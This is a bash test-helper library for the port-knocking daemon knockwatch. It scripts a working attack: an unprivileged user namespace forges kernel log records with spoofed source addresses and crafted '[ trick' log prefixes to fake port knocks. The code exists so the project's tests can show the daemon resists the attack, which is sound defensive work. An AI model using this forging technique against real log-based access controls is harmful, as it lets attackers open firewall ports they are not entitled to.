# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash
#
# lib-forge.sh — the attack of issue 8 / TECH-NOTES.md section 8, for the tests that
# prove knockwatch resists it: an UNPRIVILEGED user (uid 65534, no groups) makes a user
# and network namespace of its own (`unshare -rn`), is root there, creates a veth pair,
# loads a ruleset whose `log` rule has a prefix of its choosing, and injects TCP SYNs
# with a spoofed source address into one end (test/forge-syn, AF_PACKET). With
# net.netfilter.nf_log_all_netns=1 the kernel logs them as genuine kernel records,
# which reach /dev/kmsg, the journal and syslog files like any knock.
#
# Source it after lib.sh (or lib-journal.sh), before kw_net_setup:
#
#   . "$KW_SRCDIR/test/lib-forge.sh"
#
# It saves net.netfilter.nf_log_all_netns as it finds it, and the EXIT trap puts that
# value back (kw_net_setup sets it to 1 and would leave it so). A test that forges needs
# it at 1 (kw_forge_sysctl 1) and says so in its header.
#
#   kw_forge_userns PREFIX SRC DST PORT...
#                     the attack: SYNs from SRC to DST:PORT, one per port in order,
#                     logged in the attacker's namespace with log prefix "PREFIX"; then,
#                     as root, find every one of those lines in /dev/kmsg as a record of
#                     the kernel facility, and fail otherwise (so a test built on it can
#                     never pass because the attack silently did nothing). Sets
#                     KW_FORGE_SPORT (the source port, a marker unique to this call)
#                     and KW_FORGE_LINES (a file holding the lines the kernel wrote).
#   kw_forge_trick VICTIM SERVER OUTER_SRC PORT...
#                     the "[ trick": per PORT, a prefix (at most 127 characters, nft's
#                     limit) that is a whole fake outer header for VICTIM and ends in
#                     "[", so that the kernel's real header (SRC=OUTER_SRC) follows as
#                     what the parser takes for a quoted packet
#   kw_forge_trick_prefix VICTIM SERVER PORT   print that prefix
#   kw_forge_secret [LEN]  a random secret of LEN (default 32) characters [A-Za-z0-9]
#   kw_forge_kernel_addr ADDR   ADDR as the kernel's LOG line writes it
#   kw_forge_sysctl VALUE       set net.netfilter.nf_log_all_netns (restored at exit)
#
# And what the tests of issue 8 share beyond the attack:
#   kw_secret_ruleset OUT TIMEOUT WINDOW [SECRET]
#                     kw_test_ruleset, with log prefix "PORT_KNOCKING SECRET " (a random
#                     secret unless given; in KW_SECRET): with nf_log_all_netns=1 (which
#                     kw_net_setup sets) only such a ruleset may open doors. KW_TEST_SECRET
#                     in the environment replaces the random secret (to reproduce a run)
#   kw_daemon_errlog TIMEOUT_S REGEX ARGS...
#                     run knockwatch ARGS in the server namespace with --log-level=err for
#                     up to TIMEOUT_S, until its output matches REGEX (grep -iE), then stop
#                     it: true if it did, so the message was logged at error level or
#                     worse. Its output is in KW_ERRLOG. In two halves, for a daemon that
#                     must see something happen first: kw_daemon_errlog_start ARGS...,
#                     kw_daemon_errlog_wait TIMEOUT_S REGEX, kw_daemon_errlog_stop.
#   kw_expires SET ADDR [TABLE]
#                     the seconds ADDR has left in SET, as nft says (empty if absent)
#   kw_section NAME   run the part NAME of a test? All parts unless KW_SECTIONS (a list
#                     of names) says otherwise: `KW_SECTIONS="kmsg file" meson test …`
#
# The shipped prefix is KW_FORGE_PLAIN ("PORT_KNOCKING "); a guessed secret prefix is
# "PORT_KNOCKING $(kw_forge_secret) ". Frames and rates are bounded by forge-syn itself.

FORGE_SYN=${FORGE_SYN:-$KW_BUILDDIR/test/forge-syn}
KW_FORGE_PLAIN="PORT_KNOCKING "
KW_FORGE_SYSCTL_PATH=/proc/sys/net/netfilter/nf_log_all_netns
KW_FORGE_SYSCTL_SAVED=$(cat "$KW_FORGE_SYSCTL_PATH" 2>/dev/null || true)
KW_FORGE_DIR=
KW_FORGE_N=0
KW_FORGE_SPORT=
KW_FORGE_LINES=

kw_forge_cleanup() {
        if [[ -n $KW_FORGE_SYSCTL_SAVED ]] &&
           [[ $(cat "$KW_FORGE_SYSCTL_PATH" 2>/dev/null) != "$KW_FORGE_SYSCTL_SAVED" ]]; then
                echo "$KW_FORGE_SYSCTL_SAVED" >"$KW_FORGE_SYSCTL_PATH" ||
                        echo "WARNING: could not put nf_log_all_netns back to $KW_FORGE_SYSCTL_SAVED" >&2
        fi
        [[ -z $KW_FORGE_DIR ]] || rm -rf "$KW_FORGE_DIR"
}
trap 'kw_cleanup; kw_forge_cleanup' EXIT

kw_forge_sysctl() {
        [[ -n $KW_FORGE_SYSCTL_SAVED ]] || kw_fail "cannot read $KW_FORGE_SYSCTL_PATH (not the initial network namespace?)"
        echo "$1" >"$KW_FORGE_SYSCTL_PATH" || kw_fail "cannot set nf_log_all_netns to $1"
        [[ $(cat "$KW_FORGE_SYSCTL_PATH") == "$1" ]] || kw_fail "nf_log_all_netns did not become $1"
}

kw_forge_kernel_addr() {
        "$FORGE_SYN" --kernel-form "$1" || kw_fail "forge-syn --kernel-form $1 failed"
}

kw_forge_secret() {
        local len=${1:-32} s
        s=$(LC_ALL=C tr -dc 'A-Za-z0-9' </dev/urandom | head -c "$len") || true
        [[ ${#s} == "$len" ]] || kw_fail "could not make a random secret"
        echo "$s"
}

kw_forge_trick_prefix() {
        local victim server p
        victim=$(kw_forge_kernel_addr "$1")
        server=$(kw_forge_kernel_addr "$2")
        if [[ $victim == *:* ]]; then
                # Two expanded IPv6 addresses do not fit in 127 characters; the parser
                # does not need DST.
                p="PORT_KNOCKING IN=kw0 OUT= SRC=$victim LEN=60 PROTO=TCP SPT=1 DPT=$3 RES=0x00 SYN URGP=0 ["
        else
                p="PORT_KNOCKING IN=kw0 OUT= SRC=$victim DST=$server LEN=60 PROTO=TCP SPT=1 DPT=$3 RES=0x00 SYN URGP=0 ["
        fi
        ((${#p} <= 127)) || kw_fail "trick prefix longer than 127 characters: $p"
        echo "$p"
}

# The binary must be runnable by uid 65534: a copy in a directory of its own.
kw_forge_prepare() {
        [[ -n $KW_FORGE_DIR ]] && return 0
        [[ -x $FORGE_SYN ]] || kw_fail "no forge-syn at $FORGE_SYN (build first)"
        command -v setpriv >/dev/null && command -v unshare >/dev/null || kw_fail "setpriv/unshare missing (util-linux)"
        KW_FORGE_DIR=$(mktemp -d /tmp/kw-forge.XXXXXX)
        chmod 0755 "$KW_FORGE_DIR"
        install -m 0755 "$FORGE_SYN" "$KW_FORGE_DIR/forge-syn"
}

# The attacker's side, run by bash as uid 65534 inside `unshare -rn`:
#   $1 prefix, $2 src, $3 dst, $4 sport, $5... ports
# shellcheck disable=SC2016
KW_FORGE_SCRIPT='
set -eu
prefix=$1 src=$2 dst=$3 sport=$4
shift 4
ports=$(IFS=,; echo "$*")
ip link add eth0 type veth peer name eth1
ip link set eth0 up
ip link set eth1 up
# The attacker decides everything in this namespace: log in prerouting, before any
# routing decision, so the spoofed addresses need no route here.
nft -f - <<EOF
table inet forge {
        chain pre {
                type filter hook prerouting priority raw; policy accept;
                iifname "eth0" tcp dport { $ports } tcp flags & (fin | syn | rst | ack) == syn log prefix "$prefix" level warn
                iifname "eth0" drop
        }
}
EOF
mac=$(ip -o link show dev eth0 | sed -n "s|.*link/ether \([0-9a-f:]*\) .*|\1|p")
exec "$FORGE" --sport="$sport" eth1 "$mac" "$src" "$dst" "$@"
'

# kw_forge_kmsg_lines PREFIX NEEDLE: the text of every kernel-facility record in /dev/kmsg
# that starts with PREFIX and contains NEEDLE.
kw_forge_kmsg_lines() {
        # One record per read; dd stops at the end of the ring (EAGAIN).
        dd if=/dev/kmsg iflag=nonblock bs=16384 status=none 2>/dev/null |
                awk -v prefix="$1" -v needle="$2" '
                        /^[0-7],[0-9]+,[0-9]+,[^;]*;/ {
                                text = substr($0, index($0, ";") + 1)
                                if (index(text, prefix) == 1 && index(text, needle) > 0)
                                        print text
                        }' || true
}

# kw_forge_all_logged PREFIX SRC_K DST_K SPORT PORT...: all lines are in the kernel log.
kw_forge_all_logged() {
        local prefix=$1 src=$2 dst=$3 sport=$4 port lines
        shift 4
        lines=$(kw_forge_kmsg_lines "$prefix" "SRC=$src DST=$dst ")
        for port in "$@"; do
                grep -qF "PROTO=TCP SPT=$sport DPT=$port " <<<"$lines" || return 1
        done
        printf '%s\n' "$lines" | grep -F "PROTO=TCP SPT=$sport DPT=" >"$KW_FORGE_LINES"
}

kw_forge_userns() {
        local prefix=$1 src=$2 dst=$3 rc=0 out ksrc kdst
        shift 3
        (($# >= 1)) || kw_fail "kw_forge_userns: no port"
        ((${#prefix} <= 127)) || kw_fail "kw_forge_userns: prefix longer than nft's 127 characters"
        [[ $prefix != *[\"\\$'\n']* ]] || kw_fail "kw_forge_userns: the prefix must not hold quotes, backslashes or newlines"
        [[ $(cat "$KW_FORGE_SYSCTL_PATH" 2>/dev/null) == 1 ]] ||
                kw_fail "kw_forge_userns needs net.netfilter.nf_log_all_netns=1 (kw_forge_sysctl 1)"
        kw_forge_prepare
        KW_FORGE_N=$((KW_FORGE_N + 1))
        # A source port no other call of this run uses: the marker of these lines.
        KW_FORGE_SPORT=$((20000 + (RANDOM % 2000) * 20 + KW_FORGE_N % 20))
        KW_FORGE_LINES=$KW_TMP/forge.$KW_FORGE_N.lines
        ksrc=$(kw_forge_kernel_addr "$src")
        kdst=$(kw_forge_kernel_addr "$dst")

        out=$(cd / && FORGE="$KW_FORGE_DIR/forge-syn" \
                setpriv --reuid=65534 --regid=65534 --clear-groups -- \
                unshare -rn -- bash -c "$KW_FORGE_SCRIPT" forge "$prefix" "$src" "$dst" "$KW_FORGE_SPORT" "$@" 2>&1) || rc=$?
        if ((rc != 0)); then
                # No user namespaces for unprivileged users: then this attack does not
                # exist here, and the test cannot show that knockwatch resists it.
                if [[ $out == *"unshare failed"* || $out == *"unshare: "* ]]; then
                        [[ ${CI:-} == true ]] && kw_fail "an unprivileged user cannot unshare -rn here: $out"
                        echo "SKIP: an unprivileged user cannot make a user and network namespace here: $out"
                        exit 77
                fi
                kw_fail "the forging user namespace failed (exit $rc): $out"
        fi
        [[ $out == "sent $#" ]] || kw_fail "forge-syn did not send $# frames: $out"
        kw_wait_until 3 kw_forge_all_logged "$prefix" "$ksrc" "$kdst" "$KW_FORGE_SPORT" "$@" ||
                kw_fail "the forged SYNs ($src -> $dst, SPT=$KW_FORGE_SPORT, ports $*) did not reach the kernel log as kernel records with prefix \"$prefix\""
}

kw_forge_trick() {
        local victim=$1 server=$2 outer=$3 port
        shift 3
        for port in "$@"; do
                kw_forge_userns "$(kw_forge_trick_prefix "$victim" "$server" "$port")" "$outer" "$server" "$port"
        done
}

kw_secret_ruleset() {
        local out=$1
        KW_SECRET=${4:-${KW_TEST_SECRET:-$(kw_forge_secret 32)}}
        kw_test_ruleset "$out" "$2" "$3"
        sed -i "s/log prefix \"PORT_KNOCKING \"/log prefix \"PORT_KNOCKING $KW_SECRET \"/" "$out"
        grep -q "log prefix \"PORT_KNOCKING $KW_SECRET \"" "$out" || kw_fail "could not put the secret into $out"
}

KW_ERRLOG_PID=
kw_daemon_errlog_start() {
        KW_ERRLOG=$KW_TMP/errlog.$((${#KW_PIDS[@]})).$RANDOM.log
        ip netns exec "$NS_SRV" "$KNOCKWATCH" --log-target=console --log-level=err "$@" >"$KW_ERRLOG" 2>&1 &
        KW_ERRLOG_PID=$!
        KW_PIDS+=("$KW_ERRLOG_PID")
}

kw_daemon_errlog_wait() {
        kw_wait_until "$1" grep -qiE -- "$2" "$KW_ERRLOG"
}

kw_daemon_errlog_stop() {
        [[ -n $KW_ERRLOG_PID ]] || return 0
        kill -TERM "$KW_ERRLOG_PID" 2>/dev/null || true
        wait "$KW_ERRLOG_PID" 2>/dev/null || true
        kw_forget_pid "$KW_ERRLOG_PID"
        KW_ERRLOG_PID=
}

kw_daemon_errlog() {
        local secs=$1 regex=$2 rc=1
        shift 2
        kw_daemon_errlog_start "$@"
        kw_daemon_errlog_wait "$secs" "$regex" && rc=0
        kw_daemon_errlog_stop
        return "$rc"
}

kw_expires() {
        local json
        # shellcheck disable=SC2086 # "inet knockwatch" is two words
        json=$(kw_srv nft -j list set ${3:-inet knockwatch} "$1" 2>/dev/null) || return 0
        { grep -o "\"val\": \"$2\"[^}]*" <<<"$json" || true; } | sed -n 's/.*"expires": \([0-9]*\).*/\1/p'
}

kw_section() {
        [[ -z ${KW_SECTIONS:-} || " $KW_SECTIONS " == *" $1 "* ]]
}
